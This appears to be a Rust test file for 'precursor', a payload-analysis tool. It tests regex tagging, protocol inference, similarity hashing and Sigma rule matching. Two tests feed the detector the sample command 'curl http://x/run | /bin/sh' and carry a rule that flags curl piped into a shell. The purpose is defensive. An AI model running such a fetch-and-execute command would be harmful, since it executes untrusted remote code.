use precursor::pipeline::{process_decoded_payload, Batch};
use precursor::aggregate::{neighbor_lists, run_hash_diffs};
use precursor::inference::infer_protocol_candidates;
use precursor::sigma::{matching_sigma_rules, load_sigma_rule_plan};
use precursor::similarity::{calculate_similarity_hash, SimilarityMode};
use precursor::tagging::{build_regex, tag_payload};
use precursor::util::get_payload;

fn single_packet(payload: &[u8], tags: &Vec<String>) -> precursor::inference::ProtocolInference {
    // No neighbors; the entropy of these printable payloads is far below the opaque threshold.
    infer_protocol_candidates(payload, tags, 0, 0, 0, 3, 650_000)
}

#[test]
fn scenario_single_packet_http_get() {
    let patterns = vec![build_regex("(?<http_get>GET)").expect("pattern")];
    let payload = get_payload("GET /index.html HTTP/1.1 Host: example.org", "string").expect("payload");
    let (tags, matched) = tag_payload(&patterns, &payload);
    assert!(matched);
    assert_eq!(tags, vec!["http_get"]);
    let inference = single_packet(&payload, &tags);
    assert_eq!(inference.label, "http");
    assert!(!inference.abstained);
    assert_eq!(inference.candidates[0].protocol, "http");
}

#[test]
fn scenario_lzjd_pairwise_two_requests() {
    let patterns = vec![build_regex("(?<http_get>GET)").expect("pattern")];
    let lines = ["GET /index.html HTTP/1.1 Host: example.org", "GET /about.html HTTP/1.1 Host: example.org"];
    let mut hashes = Vec::new();
    for line in lines {
        let payload = get_payload(line, "string").expect("payload");
        assert!(tag_payload(&patterns, &payload).1);
        let hash = calculate_similarity_hash(&payload, &SimilarityMode::Lzjd, "48_1").expect("hash");
        assert!(hash.as_string().expect("text").starts_with("lzjd:"));
        hashes.push(hash);
    }
    let pairs = run_hash_diffs(&hashes, 100, false, &|_: &Vec<(u32, u32)>| 0u32);
    let lists = neighbor_lists(hashes.len(), &pairs);
    assert!(lists.iter().any(|l| !l.is_empty()));
    assert_eq!(lists[0].len(), 1);
    assert_eq!(lists[1].len(), 1);
}

#[test]
fn scenario_binary_elf_firmware() {
    let patterns = vec![build_regex("(?<elf_magic>^\\x7fELF)").expect("pattern")];
    let payload = vec![0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00, 0x00];
    let (tags, matched) = tag_payload(&patterns, &payload);
    assert!(matched);
    assert_eq!(tags, vec!["elf_magic"]);
    let inference = infer_protocol_candidates(&payload, &tags, 0, 0, 0, 3, 650_000);
    assert_eq!(inference.label, "firmware_binary");
}

#[test]
fn scenario_no_capture_no_report() {
    let patterns = vec![build_regex("(?<http_get>GET)").expect("pattern")];
    let (tags, matched) = tag_payload(&patterns, b"POST /upload HTTP/1.1");
    assert!(!matched);
    assert!(tags.is_empty());
}

#[test]
fn scenario_sigma_fetch_and_shell() {
    let yaml = "title: Fetch and shell
id: fetch-and-shell
detection:
  selection_fetch:
    CommandLine|contains:
      - 'curl '
  selection_shell:
    CommandLine|contains:
      - '/bin/sh'
  condition: selection_fetch and selection_shell
";
    let plan = load_sigma_rule_plan(yaml, "fetch", "fetch.yml").expect("plan");
    let patterns: Vec<_> = plan.pattern_specs.iter().map(|p| build_regex(&p.regex).expect("compiled")).collect();
    let plans = vec![plan];
    let mut reported = Vec::new();
    for line in ["curl http://x/run", "curl http://x/run | /bin/sh"] {
        let payload = get_payload(line, "string").expect("payload");
        let (tags, matched) = tag_payload(&patterns, &payload);
        assert!(matched);
        let rules = matching_sigma_rules(&plans, &tags);
        if !rules.is_empty() {
            reported.push((line, plans[rules[0]].rule_slug.clone()));
        }
    }
    assert_eq!(reported, vec![("curl http://x/run | /bin/sh", "fetch_and_shell".to_string())]);
}

fn settings(similarity: Option<SimilarityMode>, single_packet: bool) -> precursor::pipeline::Settings {
    precursor::pipeline::Settings {
        similarity,
        tlsh_algorithm: "48_1".to_string(),
        single_packet,
        abstain_threshold: 650_000,
        top_k: 3,
        rules: Vec::new(),
    }
}

#[test]
fn pipeline_reports_matched_payloads_once_per_fingerprint() {
    let patterns = vec![build_regex("(?<http_get>GET)").expect("pattern")];
    let s = settings(Some(SimilarityMode::Lzjd), true);
    let mut batch = Batch { reports: Vec::new(), hashes: Vec::new() };
    assert!(!process_decoded_payload(&mut batch, b"POST /x", 0, &patterns, &s, 0));
    assert!(batch.reports.is_empty() && batch.hashes.is_empty());
    assert!(process_decoded_payload(&mut batch, b"GET /a HTTP/1.1", 1, &patterns, &s, 0));
    assert!(process_decoded_payload(&mut batch, b"GET /b HTTP/1.1", 2, &patterns, &s, 0));
    assert!(process_decoded_payload(&mut batch, b"GET /a HTTP/1.1", 3, &patterns, &s, 0));
    assert_eq!(batch.reports.len(), 2);
    assert_eq!(batch.hashes.len(), 3);
    let first = &batch.reports[0];
    assert_eq!(first.base, 3);
    assert_eq!(first.tags, vec!["http_get"]);
    assert_eq!(first.key, format!("{:x}", xxhash_rust::xxh3::xxh3_64(b"GET /a HTTP/1.1")));
    assert!(first.similarity_hash.starts_with("lzjd:"));
    assert_eq!(first.hash_index, Some(2));
    assert_eq!(first.inference.as_ref().expect("inference").label, "http");
}

#[test]
fn pipeline_without_hashing_or_inference() {
    let patterns = vec![build_regex("(?<x>x)").expect("pattern")];
    let s = settings(Some(SimilarityMode::Tlsh), false);
    let mut batch = Batch { reports: Vec::new(), hashes: Vec::new() };
    assert!(process_decoded_payload(&mut batch, b"xyz", 0, &patterns, &s, 0));
    assert!(batch.hashes.is_empty());
    assert_eq!(batch.reports[0].similarity_hash, "");
    assert!(batch.reports[0].hash_index.is_none());
    assert!(batch.reports[0].inference.is_none());
}

#[test]
fn pipeline_sigma_gate() {
    let yaml = "id: gate
detection:
  selection_fetch:
    CommandLine|contains:
      - 'curl '
  selection_shell:
    CommandLine|contains:
      - '/bin/sh'
  condition: selection_fetch and selection_shell
";
    let plan = load_sigma_rule_plan(yaml, "gate", "gate.yml").expect("plan");
    let patterns: Vec<_> = plan.pattern_specs.iter().map(|p| build_regex(&p.regex).expect("compiled")).collect();
    let mut s = settings(None, false);
    s.rules = vec![plan];
    let mut batch = Batch { reports: Vec::new(), hashes: Vec::new() };
    assert!(!process_decoded_payload(&mut batch, b"curl http://x/run", 0, &patterns, &s, 0));
    assert!(batch.reports.is_empty());
    assert!(process_decoded_payload(&mut batch, b"curl http://x/run | /bin/sh", 1, &patterns, &s, 0));
    assert_eq!(batch.reports[0].sigma_rules, vec![0]);
}
